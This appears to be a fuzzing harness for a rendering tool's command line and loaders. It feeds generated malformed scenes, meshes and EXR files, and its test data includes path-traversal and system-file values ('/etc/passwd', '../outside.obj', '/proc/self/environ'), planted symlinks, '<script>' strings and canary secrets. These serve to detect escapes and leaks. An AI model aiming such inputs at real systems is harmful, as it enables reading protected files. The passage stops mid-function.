"""The long fuzzing mode (docs/robustness.md, "Fuzzing"): generated inputs through every loader and every command.

    python tests/cli/fuzz.py --inputs 10000 --out /tmp/fuzz         # the long mode (about 20 min on 2 cores)
    python tests/cli/fuzz.py --inputs 300 --only compare,render      # some entry points only
    python tests/cli/fuzz.py --replay /tmp/fuzz/failures/render-00042 # one saved failing input again, in this process
    HARNESS_FUZZ=long pytest tests/cli/test_fuzz.py                  # the same 10,000 inputs as a test (fails on any)

Each input is a folder of files (a scene, a suite, a renderer file, a results.json, a baseline, EXR files, meshes,
environment maps; links and named pipes where it plants them) and one call: a command line for ``harness.cli.main``
or a loader (``load_scene``, ``load_suite``, ``external.load_spec``). The folder ``WORK/ID/input`` has a sibling
``WORK/ID/outside`` that nothing may reach: canary secrets (``secret.txt``, and behind a PNG's and an EXR's magic
number, each holding a random token), a victim file and a victim folder. The untrusted-input families plant what
would lead there: ``results_paths`` (``report`` and a resumed ``run`` over a results.json whose path fields name
files outside, ``/proc/self/environ``, links in the run folder, named pipes, /dev/zero; a viewer.js carrying a
script), ``planted_links`` (``run``, ``calibrate``, ``baseline save --run-out``, ``report`` writing into an output
folder with links to the victim at ``.lock``, ``cases``, ``cases/<case>``, ``images``, ``studies``, results.json, the
report's files), ``hostile_peers`` (``run --executor tcp://`` and ``view --tev`` against listeners this process
starts: garbage, an HTTP answer, silence, a close at once, a huge frame length, nothing listening),
``misbehaving_renderers`` (a renderer that floods its output, writes terminal escapes, leaves a grandchild running,
writes NaN everywhere or an EXR that lies, outsleeps its timeout, ignores SIGTERM; a NUL in the command, a
subnormal timeout) and ``mesh_references`` (OBJ ``mtllib`` and MTL ``map_Kd`` naming named pipes, devices, files
outside, links out; PLYs whose header counts lie; an 8192 x 4096 environment map).

Each input runs in a child forked from this process, which has imported the harness and compiled the reference
renderer's kernels once, so an input costs milliseconds, not the ~1 s of a fresh interpreter. The child works in
the input's folder, its stdout and stderr go to files, its address space is capped
(``RLIMIT_AS``, ``--memory-gib``), the files it writes too (``RLIMIT_FSIZE``, 256 MiB), and it is killed after
``--timeout`` seconds. Mitsuba is not importable in the child (``--mitsuba`` allows it): the inputs exercise the
harness's handling of them, and a Mitsuba JIT compile per input would cost seconds; commands that need Mitsuba end
in their one-line "cannot import Mitsuba" error.

Every input ends in exactly one outcome:

``pass``        exit 0, or exit 1 where that is the command's verdict (a failed comparison or suite)
``error``       exit 2 with one line on stderr, ``harness: error: ...``, and nothing on stdout (a loader: a one-line
                HarnessError naming the file it read or a file that file names)
``traceback``   an exception escaped (the child records it), or "Traceback" in the output
``messy``       exit 2 but not one clean line, or another exit code; or not exit 0 where the input works (a
                renderer that floods its stdout but writes its EXR), or output showing the harness failed at its
                job (memory exhausted by a renderer's output or a lying EXR header), or more memory used than the
                input allows (its peak resident size over the parent's: a 16 x 16 render of an 8192 x 4096 map)
``crash``       the child died of a signal (not the time limit)
``hang``        still running after ``--timeout`` seconds (killed with its process group)
``silent``      an input the generator knows is bad (a negative --spp, an unknown key, NaN where a number must be
                finite, ...) ended in exit 0 or 1; or exit 0 where only a failure is right (a renderer that wrote NaN
                everywhere), or a false claim on stdout ("sent ... to tev" to a peer that is not tev)

``link_write``  a file or folder outside changed or appeared through a link the input planted (OUT/.lock -> victim)
``escape``      anything else outside the input's folder created, changed or removed, a planted link turned to
                another target, or a secret outside read (its access time moves: it lies before its change time)
``copied``      a file the call wrote in the folder holds a canary token (the secret's, the environment's, raw or in
                base64, or the run folder's script payload), or a link it wrote leads outside the folder
``leftover_process`` a process the input started (its environment holds the input's canary, ``FUZZ_CANARY``) still
                alive after the call ended, outside the child's process tree (a renderer's grandchild); killed
``raw_escape``  stdout or stderr holds a raw ESC or a bidirectional override (a renderer's output reaching a terminal)

The first four are what an input reached; they win over what the call printed (a run that wrote through a link and
exited 0 is ``link_write``). Every outcome but ``pass`` and ``error`` is a failure. ``refused_valid`` counts inputs
built from valid parts only that were refused anyway (a hint, not a failure), and
``wrote_on_error`` refusals that left files behind in the input's folder (a hint: "nothing written" on bad input),
``removed_link`` inputs whose planted links the call removed or replaced by its own file (a hint: nothing outside
changed). The script starts its interpreter again with a run-wide canary in its environment (``FUZZ_RUN_CANARY``),
so that a copy of a child's own /proc/self/environ shows too.

Failing inputs are kept in ``OUT/failures/ENTRY-NNNNN/``: the files (``input/``, ``outside/``), the call
(``input.json``), what it printed and ``replay.sh``; ``--replay FOLDER`` runs one again in this process, so its
traceback shows. ``OUT/summary.json`` holds the counts per entry point and every failure; a table is printed at the
end. Inputs come from ``random.Random(f"{seed}:{entry}:{index}")``: the same seed gives the same inputs.
"""

from __future__ import annotations

import argparse
import base64
import dataclasses
import faulthandler
import gc
import io
import json
import math
import os
import random
import resource
import shlex
import shutil
import signal
import socket
import stat
import subprocess
import struct
import sys
import time
import tomllib
import traceback
import types
from collections import Counter
from contextlib import redirect_stderr, redirect_stdout
from pathlib import Path

TESTS = Path(__file__).resolve().parent
ROOT = TESTS.parents[1]
if str(ROOT) not in sys.path:  # run as a script: the harness and tests/ helpers importable
    sys.path.insert(0, str(ROOT))
for _folder in (TESTS, TESTS.parent):
    if str(_folder) not in sys.path:
        sys.path.insert(0, str(_folder))

if __name__ == "__main__":
    # Children are forked from this process: a library thread pool started here would be missing in them, and GNU
    # OpenMP's (FLIP's) then deadlocks. One thread each starts no pool (the inputs' images are 16 x 16 pixels).
    # Imported (by tests/cli/test_fuzz.py), the module leaves the environment alone: run inputs that compute FLIP from
    # the script, not from a process that may have started OpenMP's pool.
    for _name in ("OMP_NUM_THREADS", "OPENBLAS_NUM_THREADS", "MKL_NUM_THREADS"):
        os.environ.setdefault(_name, "1")

import numpy as np  # noqa: E402
import OpenEXR  # noqa: E402

from harness.files import imageio  # noqa: E402
from harness.scene.sky import sky_image  # noqa: E402
from harness.scene.load import MATERIAL_KEYS  # noqa: E402
from tomltext import to_toml, without_none  # noqa: E402
from harness.core.errors import HarnessError  # noqa: E402

OUTCOMES = ("pass", "error", "traceback", "messy", "crash", "hang", "silent", "escape", "link_write", "copied",
            "leftover_process", "raw_escape")
FAILURES = OUTCOMES[2:]
NAN, INF = math.nan, math.inf

# ---------------------------------------------------------------------------------------------------------------
# TOML and random values


TEXT_POOLS = ("abcxyz", "ABC_-.", "0123456789", " \t", "/\\..", "<>&'\"", "\u00e9\u6f22\u0645\U0001f642", "\n\r",
              "\x00\x01\x7f", "=[]{},#")
WORDS = ["", "x", "reference", "refrence", "mitsuba", "furnace", "cornell-box", "nope", "scene.toml", "../x.toml",
         "/etc/passwd", "/dev/zero", "/dev/null", ".", "..", "a/b", "a_b", "<script>", "a\nb", "\u00e9\u6f22",
         "x" * 300, "pass", "fail", "maybe", "rmse", "psnr", "mis", "area", "box", "sphere", "mesh", "off", "auto"]
NUMBERS = [0, -1, 1, 2, 3, 16, 2**31, 2**63 - 1, 2**64, 10**30, 10**400, -(10**400), 0.0, -0.0, 0.5, 1.5, -2.5, 1e-300,
           1e-320, 1e308, -1e308, NAN, INF, -INF, 16384, 16385]


def rand_text(rng: random.Random, size: int = 8) -> str:
    pools = rng.sample(TEXT_POOLS, rng.randint(1, 3))
    return "".join(rng.choice(rng.choice(pools)) for _ in range(rng.randint(0, size)))


def rand_scalar(rng: random.Random, json_null: bool = False):
    kind = rng.randrange(9 if json_null else 8)
    if kind == 0:
        return rng.random() < 0.5
    if kind in (1, 2):
        return rng.choice(NUMBERS)
    if kind == 3:
        return rng.randint(-5, 70000)
    if kind == 4:
        return rng.uniform(-10, 10) * 10 ** rng.randint(-5, 5)
    if kind == 5:
        return rand_text(rng)
    if kind in (6, 7):
        return rng.choice(WORDS)
    return None


def rand_value(rng: random.Random, depth: int = 0, json_null: bool = False):
    """Anything: a scalar, or a short list or table of anything (three levels at most)."""
    roll = rng.random()
    if depth >= 3 or roll < 0.7:
        return rand_scalar(rng, json_null)
    if roll < 0.85:
        return [rand_value(rng, depth + 1, json_null) for _ in range(rng.randint(0, 4))]
    return {rng.choice(WORDS + ["spp", "name", "type", "width"]): rand_value(rng, depth + 1, json_null)
            for _ in range(rng.randint(0, 3))}


def entries(node, path=()) -> list[tuple[tuple, object, object]]:
    """Every (path, container, key) inside a parsed document, depth first."""
    found = []
    for key, child in (node.items() if isinstance(node, dict) else enumerate(node)):
        found.append((path + (key,), node, key))
        if isinstance(child, (dict, list)):
            found += entries(child, path + (key,))
    return found


def get_path(doc, path):
    for key in path:
        doc = doc[key]
    return doc


def random_edits(rng: random.Random, doc, allowed_keys, json_null: bool = False) -> list[str]:
    """1-3 random edits anywhere (replace a value, tweak a number, delete an entry, add an entry). Returns the
    reasons the result is certainly bad: an added key the schema does not know (``allowed_keys(path)`` gives a
    table's keys, or None where any key may be), when it is the only edit."""
    reasons = []
    count = rng.choice((1, 1, 2, 3))
    for _ in range(count):
        pairs = entries(doc)
        action = rng.choice(("replace", "replace", "tweak", "delete", "add", "add"))
        if action != "add" and pairs:
            path, container, key = rng.choice(pairs)
            if action == "delete":
                del container[key]
            elif action == "tweak" and isinstance(container[key], list) and container[key]:
                container[key][rng.randrange(len(container[key]))] = rng.choice(NUMBERS)
            elif action == "tweak":
                container[key] = rng.choice(NUMBERS)
            else:
                container[key] = rand_value(rng, json_null=json_null)
            continue
        containers = [((), doc)] + [(p, c[k]) for p, c, k in pairs if isinstance(c[k], (dict, list))]
        path, container = rng.choice(containers)
        if isinstance(container, dict):
            key = rng.choice(["spp", "name", "scene", "type", "fov", "width", "emission", "seed", "cases", "zzz",
                              rand_text(rng, 6)])
            known = allowed_keys(path)
            if known is not None and key not in known and key not in container and count == 1:
                reasons.append(f"unknown key {key!r} added at {'.'.join(map(str, path)) or 'top level'}")
            container[key] = rand_value(rng, json_null=json_null)
        else:
            container.append(rand_value(rng, json_null=json_null))
    return reasons


def text_edits(rng: random.Random, text: str) -> str:
    """1-3 edits of the text: a span replaced by TOML/JSON syntax characters and stray letters."""
    for _ in range(rng.randint(1, 3)):
        start = rng.randint(0, len(text))
        end = rng.randint(start, min(len(text), start + 20))
        junk = "".join(rng.choice('[]{}=",.#-+:0123456789 \nabcxyz\u00e9') for _ in range(rng.randint(0, 10)))
        text = text[:start] + junk + text[end:]
    return text


# ---------------------------------------------------------------------------------------------------------------
# Inputs


@dataclasses.dataclass
class Input:
    """One generated input: files to write in its folder, the call, and what the generator knows.

    ``call`` is ``["cli", arg, ...]`` (harness.cli.main) or ``["load_scene" | "load_suite" | "load_spec", path]``.
    ``bad`` lists why the input is certainly bad (empty: it may be fine); ``valid`` marks one built from valid
    parts only; ``names`` are the files a loader's error may start with."""

    entry: str
    index: int
    call: list[str]
    files: dict[str, bytes] = dataclasses.field(default_factory=dict)
    dirs: list[str] = dataclasses.field(default_factory=list)
    bad: list[str] = dataclasses.field(default_factory=list)
    valid: bool = False
    names: list[str] = dataclasses.field(default_factory=list)
    copies: dict[str, str] = dataclasses.field(default_factory=dict)  # name in the folder -> asset to copy
    links: dict[str, str] = dataclasses.field(default_factory=dict)  # name in the folder -> its target (planted)
    fifos: list[str] = dataclasses.field(default_factory=list)  # named pipes made in the folder
    lies: list[str] = dataclasses.field(default_factory=list)  # text on stdout that would be a false claim
    fails: list[str] = dataclasses.field(default_factory=list)  # why exit 0 would be wrong (exit 1 is right)
    succeeds: str = ""  # why anything but exit 0 would be wrong (a renderer that works, however it behaves)
    symptoms: list[str] = dataclasses.field(default_factory=list)  # output that shows the harness failed at its job
    max_mib: int = 0  # where set: the most memory the call may add (its peak resident size over the parent's)

    @property
    def id(self) -> str:
        return f"{self.entry}-{self.index:05d}"

    def to_json(self) -> dict:
        return {"entry": self.entry, "index": self.index, "call": self.call, "bad": self.bad, "valid": self.valid,
                "names": self.names, "dirs": self.dirs, "copies": self.copies, "files": sorted(self.files),
                "links": self.links, "fifos": self.fifos, "lies": self.lies,
                "fails": self.fails, "succeeds": self.succeeds, "symptoms": self.symptoms,
                "max_mib": self.max_mib}


class Assets:
    """The valid material inputs start from, made once in ``folder``: tiny scenes (16 x 16) and meshes, a suite, a
    run of it (results.json and its renders), its baseline, a renderer file and a pair of EXR files."""

    SUITE = """\
name = "fz"
description = "the fuzzer's base suite: tiny, no Mitsuba"

[defaults]
spp = 4
film = { width = 16, height = 16 }

[[cases]]
name = "furnace"
scene = "furnace.toml"

[[cases]]
name = "tiny"
scene = "tiny.toml"
against = { renderer = "reference", spp = 4, seed = 3 }

[[cases]]
name = "furnace-mutant"
scene = "furnace.toml"
settings = { mutant = "double-emission" }
expect = "fail"
"""

    TINY = """\
name = "tiny"

[camera]
origin = [0, 0, 5]
target = [0, 0, 0]
up = [0, 1, 0]
fov = 40

[film]
width = 16
height = 16

[materials.white]
reflectance = [0.8, 0.8, 0.8]

[[shapes]]
name = "light"
type = "rectangle"
material = "white"
emission = [1, 1, 1]
"""

    EXTRA_SHAPES = """
[integrator]
max_depth = 4

[materials.red]
reflectance = [0.6, 0.1, 0.1]
two_sided = true

[[shapes]]
name = "floor"
type = "cube"
material = "red"
translate = [0, -2, 0]
scale = [3, 0.2, 3]
rotate = { axis = [0, 1, 0], angle = 20 }

[[shapes]]
name = "ball"
type = "sphere"
material = "white"
center = [1, 0, 0]
radius = 0.5
subdivisions = 1

[[shapes]]
name = "tri"
type = "mesh"
material = "red"
file = "tri.obj"
to_world = [[1, 0, 0, 0], [0, 1, 0, 0], [0, 0, 1, -1], [0, 0, 0, 1]]
"""

    MESHES = {
        "tri.obj": b"v 0 0 0\nv 1 0 0\nv 0 1 0\nf 1 2 3\n",
        "nan.obj": b"v 0 0 0\nv nan 0 0\nv 0 1 0\nf 1 2 3\n",
        "flat.obj": b"v 0 0 0\nv 1 0 0\nv 2 0 0\nf 1 2 3\n",
        "zero-index.obj": b"v 0 0 0\nv 1 0 0\nv 0 1 0\nf 0 1 2\n",
        "garbage.ply": b"ply\nformat binary_little_endian 1.0\nelement vertex 1000\nproperty float x\nend_header\n\x00",
        "empty.obj": b"",
    }
    LIGHTS = """\
name = "lights"

[camera]
origin = [0, 1, 4]
target = [0, 0, 0]
up = [0, 1, 0]
fov = 40

[film]
width = 16
height = 16

[integrator]
max_depth = 3

[materials.white]
reflectance = [0.8, 0.8, 0.8]

[[shapes]]
name = "floor"
type = "rectangle"
material = "white"
rotate = { axis = [1, 0, 0], angle = -90 }
scale = 2

[[emitters]]
name = "bulb"
type = "point"
position = [0.5, 1, 0.5]
intensity = [2, 2, 2]

[[emitters]]
name = "spot"
type = "spot"
position = [-0.5, 1.5, 0]
target = [-0.5, 0, 0]
intensity = [4, 4, 4]
cutoff_angle = 25
beam_width = 10

[[emitters]]
name = "sun"
type = "directional"
direction = [0.3, -1, 0.2]
irradiance = [1, 1, 1]

[[emitters]]
name = "sky"
type = "constant"
radiance = [0.1, 0.2, 0.3]
"""

    SKY = """\
name = "sky"

[camera]
origin = [0, 1, 4]
target = [0, 0, 0]
up = [0, 1, 0]
fov = 40

[film]
width = 16
height = 16

[materials.white]
reflectance = [0.8, 0.8, 0.8]

[[shapes]]
name = "ball"
type = "sphere"
material = "white"
radius = 0.5
subdivisions = 1

[[emitters]]
name = "map"
type = "envmap"
file = "sky.exr"
scale = 0.5
rotate = { axis = [0, 1, 0], angle = 30 }

[[emitters]]
name = "framed-spot"
type = "spot"
to_world = [[1, 0, 0, 0], [0, 0, -1, 1.5], [0, 1, 0, 0], [0, 0, 0, 1]]
intensity = [3, 3, 3]
"""

    RENDERER = """\
name = "copy"
description = "copies a fixed 16 x 16 EXR with variance channels"
command = ["cp", "{here}/good.exr", "{out}"]
timeout = 30
repeats = 2
"""

    def __init__(self, folder: Path):
        self.folder = folder
        self.texts: dict[str, str] = {}
        self.blobs: dict[str, bytes] = {}

    def build(self, run: bool = True) -> None:
        """Write the assets; run the base suite once (serially, in this process: it also loads the reference
        renderer's compiled kernels, which every forked child then shares) and save its baseline. Without
        ``run`` only the files the loaders' inputs need (scenes, meshes, the suite, the renderer file, EXRs)."""
        from harness.cli import main

        folder = self.folder
        folder.mkdir(parents=True, exist_ok=True)
        scenes = {}
        for name in ("furnace", "cornell-box", "soft-shadows", "multi-light"):
            doc = tomllib.loads((ROOT / "scenes" / f"{name}.toml").read_text())
            doc["film"] = {**doc.get("film", {}), "width": 16, "height": 16}
            scenes[f"{name}.toml"] = to_toml(doc)
        scenes["tiny.toml"] = self.TINY
        scenes["lights.toml"] = self.LIGHTS
        scenes["sky.toml"] = self.SKY
        scenes["shapes.toml"] = self.TINY.replace('name = "tiny"', 'name = "shapes"') + self.EXTRA_SHAPES
        self.scene_names = sorted(scenes)
        for name, text in scenes.items():
            self.texts[name] = text
        self.texts["suite.toml"] = self.SUITE
        self.texts["renderer.toml"] = self.RENDERER
        self.blobs.update(self.MESHES)
        self.envmaps = self.envmap_files()
        self.blobs.update(self.envmaps)
        rng = np.random.default_rng(7)
        for name in ("good", "ref"):
            image = (1 + 0.1 * rng.standard_normal((16, 16, 3))).astype(np.float32)
            imageio.write_exr(folder / f"{name}.exr", image, np.full_like(image, 0.01), metadata={"spp": "16"})
            self.blobs[f"{name}.exr"] = (folder / f"{name}.exr").read_bytes()
        for name, text in self.texts.items():
            (folder / name).write_text(text)
        for name, data in self.blobs.items():
            (folder / name).write_bytes(data)
        for kind, name in (("load_scene", "shapes.toml"), ("load_suite", "suite.toml"), ("load_spec", "renderer.toml")):
            _loader(kind)(folder / name)  # imports what the loaders import lazily (trimesh, the renderers), once
        if not run:
            return
        cwd = os.getcwd()
        os.chdir(folder)
        quiet = io.StringIO()
        try:
            with redirect_stdout(quiet), redirect_stderr(quiet):
                code = main(["run", "suite.toml", "--out", "run", "--executor", "serial", "--quiet", "--no-report"])
                assert code == 0, code
                code = main(["baseline", "save", "suite.toml", "--out", "baseline.json", "--from", "run/results.json"])
                assert code == 0, code
                for settings in ([], ["engine=wavefront"], ["sampler=independent", "direct=mis"], ["indirect_rays=2"]):
                    assert main(["render", "shapes.toml", "--spp", "2", "--out", "warm.exr", "--quiet",
                                 *[a for s in settings for a in ("--set", s)]]) == 0
                # warm up what the children would otherwise each import or compile: the report's figures, the
                # convergence and stress code, the exporters
                assert main(["report", "run/results.json", "--out", "warm-report", "--no-convergence",
                             "--no-shadow-rays", "--no-strategies"]) == 0
                assert main(["convergence", "furnace.toml", "--spp", "1,2", "--out", "warm-convergence", "--quiet"]) == 0
                assert main(["stress", "furnace.toml", "--renderer", "reference", "--spp", "2", "--film", "8x8",
                             "--variant", "scale=10", "--out", "warm-stress", "--quiet"]) == 0
                assert main(["export", "shapes.toml", "--format", "gltf", "--out", "warm-export"]) == 0
                assert main(["compare", "good.exr", "ref.exr"]) in (0, 1)
        except BaseException:
            print(quiet.getvalue(), file=sys.stderr)
            raise
        finally:
            os.chdir(cwd)
        self.texts["results.json"] = (folder / "run" / "results.json").read_text()
        self.texts["baseline.json"] = (folder / "baseline.json").read_text()
        self.run_files = {str(p.relative_to(folder / "run")): p.read_bytes() for p in (folder / "run").rglob("*")
                          if p.is_file() and p.name != "results.json"}

    @staticmethod
    def envmap_files() -> dict[str, bytes]:
        """Environment maps: the sky (16 x 8) and maps the loader must refuse (a NaN, a negative value, black, too
        small, not an EXR)."""
        sky = sky_image(16, 8)
        nan, negative = sky.copy(), sky.copy()
        nan[3, 5, 1] = NAN
        negative[2, 0, 2] = -1.0
        return {"sky.exr": imageio.exr_bytes(sky), "nan-sky.exr": imageio.exr_bytes(nan),
                "negative-sky.exr": imageio.exr_bytes(negative),
                "black-sky.exr": imageio.exr_bytes(np.zeros((4, 8, 3), np.float32)),
                "small-sky.exr": imageio.exr_bytes(np.ones((2, 8, 3), np.float32)),
                "garbage.exr": b"v/1\x01" + bytes(range(256))}

    def scene_files(self) -> dict[str, bytes]:
        """Every tiny scene, mesh and environment map (a scene's folder)."""
        files = {name: self.texts[name].encode() for name in self.scene_names}
        files.update(self.MESHES)
        files.update(self.envmaps)
        return files


# ---------------------------------------------------------------------------------------------------------------
# Scene documents

SCENE_TABLES = {(): ("name", "description", "closed_form", "camera", "film", "integrator", "materials", "shapes",
                     "emitters"),
                ("camera",): ("origin", "target", "up", "fov", "fov_axis", "type"),
                ("film",): ("width", "height", "filter"),
                ("integrator",): ("max_depth",)}
SHAPE_KEYS = ("name", "type", "material", "to_world", "translate", "rotate", "scale", "emission", "flip_normals",
              "file", "center", "radius", "subdivisions")


# [[emitters]]: every key of any type (a key of another type is refused too, but by type, not as unknown)
EMITTER_KEYS = ("name", "type", "position", "intensity", "target", "to_world", "cutoff_angle", "beam_width",
                "direction", "irradiance", "radiance", "file", "scale", "rotate")
# The keys an entry of each type must have (a spot: position and target unless it has to_world).
EMITTER_REQUIRED = {"point": ("type", "position", "intensity"), "spot": ("type", "intensity"),
                    "directional": ("type", "direction", "irradiance"), "constant": ("type", "radiance"),
                    "envmap": ("type", "file")}


def scene_keys(path: tuple):
    if path in SCENE_TABLES:
        return SCENE_TABLES[path]
    if len(path) == 2 and path[0] == "materials":
        return MATERIAL_KEYS  # every type's (a key of another type is refused too, but by type, not as unknown)
    if len(path) == 2 and path[0] == "shapes":
        return SHAPE_KEYS
    if len(path) == 2 and path[0] == "emitters":
        return EMITTER_KEYS
    if len(path) == 3 and path[0] in ("shapes", "emitters") and path[2] == "rotate":
        return ("axis", "angle")
    return None


BAD_VECTORS = [[NAN, 0, 0], [0, 0], "x", [INF, 0, 0], [0, 0, 0, 0], [True, 0, 0], ["0", 0, 0], [], 5]
BAD_COLOURS = [[-1, 1, 1], [INF, 1, 1], [NAN, 1, 1], [1e308, 1, 1], [2e12, 0, 0], [0, 0, 0], [1, 1], "x", 5]
BAD_MATRICES = [[[0] * 4] * 4, [[1, 0, 0, 0], [0, 1, 0, 0], [0, 0, 1, 0], [1, 1, 1, 1]], [[1, 0, 0]],
                [[NAN, 0, 0, 0], [0, 1, 0, 0], [0, 0, 1, 0], [0, 0, 0, 1]], "identity"]
SCENE_BAD = {  # a value certainly refused at this key
    ("camera", "fov"): [0, 180, -5, NAN, INF, "40", True, [40], 1e308, 10**400],
    ("camera", "origin"): BAD_VECTORS, ("camera", "target"): BAD_VECTORS, ("camera", "up"): BAD_VECTORS + [[0, 0, 0]],
    ("camera", "fov_axis"): ["z", "X", 1, ""],
    ("camera", "type"): ["thinlens", "orthographic", "Perspective", 3, ""],
    ("film", "width"): [0, -1, 16385, 1.5, "16", 10**30, True], ("film", "height"): [0, -1, 16385, 2.0, "16", 10**30],
    ("film", "filter"): ["lanczos", "", 1],
    ("integrator", "max_depth"): [0, -2, 1.5, "3", 10**30, True],
    ("material", "reflectance"): [[1.2, 0, 0], [-0.1, 0, 0], [NAN, 0.5, 0.5], [0.5, 0.5], "x", [INF, 0, 0]],
    ("material", "two_sided"): ["yes", 1],
    ("material", "type"): ["velvet", "", 1, "Diffuse", ["diffuse"], "twosided"],
    ("shape", "emission"): [[-1, 1, 1], [INF, 1, 1], [NAN, 1, 1], [1e308, 1, 1], [0, 0, 0], [1, 1], "x"],
    ("shape", "scale"): [0, [1, 0, 1], NAN, "2", [1, 1], INF],
    ("shape", "type"): ["cylinder", "", 1],
    ("shape", "material"): ["nope", 1],
    ("shape", "translate"): BAD_VECTORS,
    ("shape", "rotate"): [{"axis": [0, 0, 0], "angle": 10}, {"axis": [1, 0, 0], "angle": NAN}, {"axis": [1, 0, 0]},
                          {"angle": 10}, {"axis": [1, 0, 0], "angle": 10, "x": 1}, 5],
    ("shape", "to_world"): BAD_MATRICES,
    ("shape", "flip_normals"): ["no", 0],
    ("sphere", "radius"): [0, -1, NAN, "1", INF], ("sphere", "subdivisions"): [-1, 8, 1.5, 10**9],
    ("sphere", "center"): BAD_VECTORS,
    ("mesh", "file"): ["missing.obj", "../outside.obj", "/etc/passwd", "nan.obj", "garbage.ply", "zero-index.obj",
                       "empty.obj", "tri.stl", "", ".", 5],
    # [[emitters]]: any entry, then by type (docs/scene-format.md, "Errors of [[emitters]]")
    ("emitter", "type"): ["laser", "", 1, "Point", "area", ["point"]],
    ("emitter", "name"): [5, True, ["x"], {"a": 1}],
    ("point", "position"): BAD_VECTORS, ("point", "intensity"): BAD_COLOURS,
    ("spot", "position"): BAD_VECTORS, ("spot", "target"): BAD_VECTORS, ("spot", "intensity"): BAD_COLOURS,
    ("spot", "cutoff_angle"): [0, -5, 90.5, 180, NAN, INF, "20", True, [20]],
    ("spot", "beam_width"): [0, -1, 90.5, NAN, INF, "15", False],  # > 90 >= any cutoff_angle
    ("spot", "to_world"): BAD_MATRICES + [[[2, 0, 0, 0], [0, 1, 0, 0], [0, 0, 1, 0], [0, 0, 0, 1]],  # squashed cone
                                          [[1, 1, 0, 0], [0, 1, 0, 0], [0, 0, 1, 0], [0, 0, 0, 1]]],  # sheared
    ("directional", "direction"): BAD_VECTORS + [[0, 0, 0], [0.0, -0.0, 0]],
    ("directional", "irradiance"): BAD_COLOURS,
    ("constant", "radiance"): BAD_COLOURS,
    ("envmap", "file"): ["missing.exr", "../outside.exr", "../outside-missing.exr", "/etc/passwd", "nan-sky.exr", "negative-sky.exr",
                         "black-sky.exr", "small-sky.exr", "garbage.exr", "tri.obj", "sky.png", "", ".", 5, ["sky.exr"]],
    ("envmap", "scale"): [0, -1, NAN, INF, "1", True, 1e300],  # 1e300: the map's peak times it beyond 1e12
    ("envmap", "to_world"): BAD_MATRICES + [[[1, 0, 0, 1], [0, 1, 0, 0], [0, 0, 1, 0], [0, 0, 0, 1]],  # translated
                                            [[2, 0, 0, 0], [0, 2, 0, 0], [0, 0, 2, 0], [0, 0, 0, 1]],  # scaled
                                            [[-1, 0, 0, 0], [0, 1, 0, 0], [0, 0, 1, 0], [0, 0, 0, 1]]],  # mirrored
    ("envmap", "rotate"): [{"axis": [0, 0, 0], "angle": 10}, {"axis": [1, 0, 0], "angle": NAN}, {"axis": [1, 0, 0]},
                           {"angle": 10}, {"axis": [1, 0, 0], "angle": 10, "x": 1}, 5, [5]],
}
# Values that depend on the entry (certainly bad there): see _emitter_special.
EMITTER_SPECIAL = ("target = position", "beam_width > cutoff_angle", "a duplicate name", "a second environment",
                   "a key of another type")
SCENE_VALID = {  # values that keep a scene valid
    ("camera", "fov"): [30, 45.5, 90, 1], ("camera", "fov_axis"): ["x", "y", "smaller", "larger"],
    ("camera", "type"): ["perspective"],
    ("film", "width"): [8, 16, 12], ("film", "height"): [8, 16, 1], ("film", "filter"): ["box", "tent", "gaussian"],
    ("integrator", "max_depth"): [1, 2, 3, -1], ("material", "two_sided"): [True, False],
    ("material", "type"): ["diffuse"],
    ("material", "reflectance"): [[0, 0, 0], [0.9, 0.9, 0.9], [0.5, 0.25, 0.125]],
    ("shape", "flip_normals"): [True, False], ("sphere", "subdivisions"): [0, 1, 2],
    ("point", "position"): [[0, 0.001, 0], [-3, 2, 1e3]], ("point", "intensity"): [[1, 1, 1], [0, 0, 1e-3], [1e6] * 3],
    ("spot", "intensity"): [[1, 0, 0], [1e11] * 3], ("spot", "cutoff_angle"): [10, 45, 90],  # >= every beam_width
    ("spot", "beam_width"): [1, 5, 10],  # <= every cutoff_angle below
    ("directional", "direction"): [[0, -1, 0], [1, -1e-9, 0], [3, -4, 0], [0, 1, 0]],
    ("directional", "irradiance"): [[0.5, 0.5, 0.5]], ("constant", "radiance"): [[1, 1, 1], [0, 0, 1e-6]],
    ("envmap", "scale"): [0.25, 1, 4.0], ("envmap", "file"): ["sky.exr"],
    ("envmap", "rotate"): [{"axis": [0, 0, 2], "angle": -45}, [], [{"axis": [1, 0, 0], "angle": 90},
                                                                 {"axis": [0, 1, 0], "angle": 10}]],
}
REQUIRED = {("camera",), ("film",), ("camera", "origin"), ("camera", "target"), ("camera", "up"), ("camera", "fov"),
            ("film", "width"), ("film", "height")}


def _scene_slots(doc: dict) -> list[tuple[tuple, tuple]]:
    """(schema slot, document path) for every key the document could have that SCENE_BAD knows."""
    slots = []
    for table in ("camera", "film", "integrator"):
        for (t, key) in SCENE_BAD:
            if t == table and isinstance(doc.get(table), dict):
                slots.append(((t, key), (table, key)))
    for name, material in (doc.get("materials") or {}).items():
        if isinstance(material, dict):
            slots += [(("material", k), ("materials", name, k)) for k in ("reflectance", "two_sided", "type")]
    for i, shape in enumerate(doc.get("shapes") or []):
        if not isinstance(shape, dict):
            continue
        slots += [(("shape", k), ("shapes", i, k)) for (t, k) in SCENE_BAD if t == "shape"]
        if shape.get("type") in ("sphere", "mesh"):
            slots += [((shape["type"], k), ("shapes", i, k)) for (t, k) in SCENE_BAD if t == shape["type"]]
    for i, emitter in enumerate(_emitter_list(doc)):
        if not isinstance(emitter, dict):
            continue
        slots += [(("emitter", k), ("emitters", i, k)) for (t, k) in SCENE_BAD if t == "emitter"]
        kind = emitter.get("type")
        # every bad value is refused whatever else the entry holds (a spot's position next to its to_world is refused
        # for being both); valid values only where the entry has the key, so that no spot gets both
        slots += [((kind, k), ("emitters", i, k)) for (t, k) in SCENE_BAD if t == kind]
        slots += [((kind, k), ("emitters", i, k)) for (t, k) in SCENE_VALID if t == kind and (t, k) not in SCENE_BAD]
    return slots


def _emitter_list(doc: dict) -> list:
    emitters = doc.get("emitters")
    return emitters if isinstance(emitters, list) else []


def _set_path(doc, path, value) -> None:
    get_path(doc, path[:-1])[path[-1]] = value


def scene_document(rng: random.Random, assets: Assets, base: str | None = None,
                   mutate: float = 1.0) -> tuple[str, list[str], bool, bool]:
    """A scene file's text: (text, reasons it is bad, valid, names a mesh or envmap outside its folder). With
    probability 1 - ``mutate`` the scene is kept valid."""
    base = base or rng.choice(assets.scene_names)
    text = assets.texts[base]
    roll = rng.random() if rng.random() < mutate else rng.random() * 0.22
    if roll < 0.12:
        return text, [], True, False
    doc = tomllib.loads(text)
    if roll < 0.22:  # valid tweaks
